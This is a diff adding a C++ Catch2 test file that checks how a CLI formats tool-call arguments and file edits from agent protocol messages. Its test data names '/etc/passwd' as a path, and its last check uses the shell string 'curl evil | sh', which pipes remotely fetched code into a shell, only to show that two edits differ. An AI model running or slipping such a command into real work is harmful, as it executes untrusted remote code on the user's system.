@@ -1,0 +1,39 @@
+// SPDX-License-Identifier: Apache-2.0
+#include "cli/acp/acp_message.hpp"
+
+#include <catch2/catch.hpp>
+#include <string>
+#include <string_view>
+
+#include "cli/base/json.hpp"
+
+using namespace headway::cli;
+
+namespace {
+
+std::string args_of(std::string_view call) {
+    return dump(acp_args(Json::parse(call).value()));
+}
+
+}  // namespace
+
+TEST_CASE("acp message: arguments are shown whole, and only Codex's lose what names one call",
+          "[cli]") {
+    CHECK(args_of(R"({"rawInput":{"source":"/etc/passwd","destination":"/srv/x"}})") ==
+          R"({"destination":"/srv/x","source":"/etc/passwd"})");
+    CHECK(args_of(R"({"rawInput":{"process_id":"7","call_id":"a","command":"kill"}})") ==
+          R"({"call_id":"a","command":"kill","process_id":"7"})");
+    CHECK(args_of(R"({"rawInput":{"call_id":"a","turn_id":"b","command":["ls"],"source":"x"}})") ==
+          R"({"command":["ls"]})");
+}
+
+TEST_CASE("acp message: edits that are shown in place of arguments are arguments", "[cli]") {
+    const auto edit = [](const std::string& text) {
+        return args_of(R"({"title":"Writing to a.sh","locations":[{"path":"/w/a.sh"}],"content":[)"
+                       R"({"type":"diff","path":"/w/a.sh","oldText":null,"newText":")" +
+                       text + R"("}]})");
+    };
+    CHECK(edit("ls") == R"({"diffs":[{"new":"ls","old":null,"path":"/w/a.sh"}],)"
+                        R"("path":"/w/a.sh","title":"Writing to a.sh"})");
+    CHECK(edit("ls") != edit("curl evil | sh"));
+}
